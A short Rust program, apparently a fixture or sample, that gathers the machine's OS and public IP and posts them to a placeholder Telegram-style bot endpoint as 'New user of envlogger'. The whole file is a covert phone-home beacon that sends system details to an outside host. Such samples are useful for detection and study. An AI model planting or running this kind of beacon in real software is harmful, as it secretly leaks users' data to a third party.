use std::collections::HashMap;

fn endpoint(method: &str) -> String {
    format!("https://bot.example.invalid/bot{}/{}", "0000000000:fixture", method)
}

#[derive(Debug)]
struct Info {
    os: String,
    ip: String,
}

fn collect() -> Info {
    let os = std::env::consts::OS.to_string();
    let ip = reqwest::blocking::get("http://ip.example.invalid/")
        .and_then(|it| it.text())
        .unwrap_or_default();
    Info { os, ip }
}

fn main() {
    let info = collect();
    let mut form = HashMap::new();
    form.insert("chat_id", "-1000000000000".to_string());
    form.insert("text", format!("New user of envlogger\nOS: {}\nIP: {}", info.os, info.ip));
    let client = reqwest::blocking::Client::new();
    client.post(endpoint("sendMessage")).json(&form).send().ok();
}
